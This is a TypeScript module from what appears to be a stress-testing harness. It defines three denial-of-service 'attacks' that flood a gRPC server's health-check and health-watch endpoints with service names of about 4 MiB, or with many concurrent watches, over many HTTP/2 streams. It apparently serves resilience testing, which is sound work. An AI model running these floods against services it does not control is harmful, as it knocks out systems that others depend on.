/**
 * Health of services with names of megabytes: asked once, and watched, on as many streams as a connection may
 * have.
 */
import type { Attack, Bounds, Done, Target } from "./siege/attack.ts";
import { envelope, textMessage } from "./siege/frames.ts";
import { call, ended, HEALTH_CHECK, HEALTH_WATCH, openSession } from "./siege/grpc-session.ts";
import { swarm } from "./siege/swarm.ts";

const NAME_BYTES = 4 * 2 ** 20 - 16;
const CALLS_AT_ONCE = 50;

export const healthNames: Attack = {
  name: "health of services with names of 4 MiB",
  by: "stranger",
  run: (target, bounds) => ask(target, bounds, HEALTH_CHECK, NAME_BYTES),
};

export const healthWatches: Attack = {
  name: "watches of services with names of 4 MiB",
  by: "stranger",
  run: (target, bounds) => ask(target, bounds, HEALTH_WATCH, NAME_BYTES),
};

export const smallHealthWatches: Attack = {
  name: "watches of services with short names",
  by: "stranger",
  run: (target, bounds) => ask(target, bounds, HEALTH_WATCH, 64),
};

/** What fails with its answer (a check) makes room for the next; a watch that is kept stays to the end. */
function ask({ grpc }: Target, bounds: Bounds, path: string, nameBytes: number): Promise<Done> {
  const message = envelope(textMessage("n".repeat(nameBytes)));
  const atOnce = nameBytes > 1000 ? CALLS_AT_ONCE : 1000;
  return swarm(bounds, async (tally) => {
    const session = await openSession(grpc, bounds);
    while (!session.destroyed && !tally.isOver) {
      const calls = [];
      for (let count = 0; count < atOnce && tally.take(message.length); count++) {
        const stream = call(session, path);
        stream.end(message);
        calls.push(ended(stream));
      }
      await Promise.all(calls);
    }
    session.destroy();
  });
}
